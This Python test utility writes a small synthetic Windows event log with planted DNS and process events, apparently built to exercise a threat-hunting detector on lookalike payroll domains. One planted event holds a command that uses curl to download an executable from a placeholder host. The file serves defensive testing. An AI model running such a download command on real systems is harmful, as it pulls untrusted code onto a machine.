"""Write ``planted.evtx``: the smallest Windows event log that shows what a hunt has to tell apart.

    python tests/assets/logs/build_event_log.py

Every name and address in it is made up. The layout is that of libevtx's description of the format: a file header, one
chunk, records in binary XML without templates.
"""

import struct
import zlib
from pathlib import Path

HERE = Path(__file__).parent
CHUNK_BYTES, HEADER_BYTES, CHUNK_HEADER_BYTES = 65536, 4096, 512
FILETIME = (1_795_010_533 + 11_644_473_600) * 10_000_000
"""18 November 2026, 14:02:13 UTC, in tenths of microseconds since 1601."""

EVENTS = [
    {"Image": r"C:\Windows\System32\svchost.exe", "QueryName": "www.cedar-landing.example"},
    {"Image": r"C:\Program Files\Browser\browser.exe", "QueryName": "login.payroll-quickpay.example"},
    {"Image": r"C:\Program Files\Browser\browser.exe", "QueryName": "notpayroll-quickpay.example"},
    {"CommandLine": r"curl.exe -o C:\new\a.exe http://Payroll-Quickpay.example/a", "DestinationIp": "203.0.113.77"},
    {"CommandLine": "ping payroll-quickpay.example.com", "DestinationIp": "203.0.113.7"},
    {"Hashes": "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E"},
]


Element = tuple[str, dict[str, str], "str | list[Element]"]
"""Name, attributes, and text or elements."""


def name_at(place: int, name: str) -> bytes:
    """A reference to a name, and the name right behind it; ``place`` is the reference's offset in the chunk."""
    code = 0
    for character in name:
        code = (code * 65599 + ord(character)) & 0xFFFFFFFF
    inline = struct.pack("<IHH", 0, code & 0xFFFF, len(name)) + name.encode("utf-16-le") + bytes(2)
    return struct.pack("<I", place + 4) + inline


def text(value: str) -> bytes:
    return b"\x05\x01" + struct.pack("<H", len(value)) + value.encode("utf-16-le")


def element_at(place: int, element: Element) -> bytes:
    """An element in binary XML; its size counts what follows the size."""
    name, attributes, content = element
    data = name_at(place + 5, name)
    if attributes:
        listed = b""
        for left, (key, value) in enumerate(reversed(attributes.items())):
            token = b"\x46" if left < len(attributes) - 1 else b"\x06"
            listed += token + name_at(place + 5 + len(data) + 4 + len(listed) + 1, key) + text(value)
        data += struct.pack("<I", len(listed)) + listed
    data += b"\x02"
    if isinstance(content, str):
        data += text(content)
    else:
        for child in content:
            data += element_at(place + 5 + len(data), child)
    data += b"\x04"
    return (b"\x41" if attributes else b"\x01") + struct.pack("<I", len(data)) + data


def record(number: int, place: int, event: dict[str, str]) -> bytes:
    system: Element = (
        "System",
        {},
        [
            ("Provider", {"Name": "Made-Up-Sensor"}, []),
            ("EventID", {}, "22"),
            ("Computer", {}, "clerk-02.cedar-landing.example"),
        ],
    )
    data: Element = ("EventData", {}, [("Data", {"Name": name}, value) for name, value in event.items()])
    xml = b"\x0f\x01\x01\x00" + element_at(place + 24 + 4, ("Event", {}, [system, data])) + b"\x00"
    size = 24 + len(xml) + 4
    return b"\x2a\x2a\x00\x00" + struct.pack("<IQQ", size, number, FILETIME) + xml + struct.pack("<I", size)


def chunk(events: list[dict[str, str]]) -> bytes:
    data, last = b"", 0
    for number, event in enumerate(events, start=1):
        last = CHUNK_HEADER_BYTES + len(data)
        data += record(number, last, event)
    header = b"ElfChnk\x00" + struct.pack("<QQQQ", 1, len(events), 1, len(events))
    header += struct.pack("<IIII", 128, last, CHUNK_HEADER_BYTES + len(data), zlib.crc32(data)) + bytes(64)
    tables = bytes(CHUNK_HEADER_BYTES - 128)
    header += struct.pack("<II", 0, zlib.crc32(header + tables))
    return (header + tables + data).ljust(CHUNK_BYTES, b"\x00")


def event_log(events: list[dict[str, str]]) -> bytes:
    header = b"ElfFile\x00" + struct.pack("<QQQIHHHH", 0, 0, len(events) + 1, 128, 1, 3, HEADER_BYTES, 1) + bytes(76)
    header += struct.pack("<II", 0, zlib.crc32(header))
    return header.ljust(HEADER_BYTES, b"\x00") + chunk(events)


if __name__ == "__main__":
    (HERE / "planted.evtx").write_bytes(event_log(EVENTS))
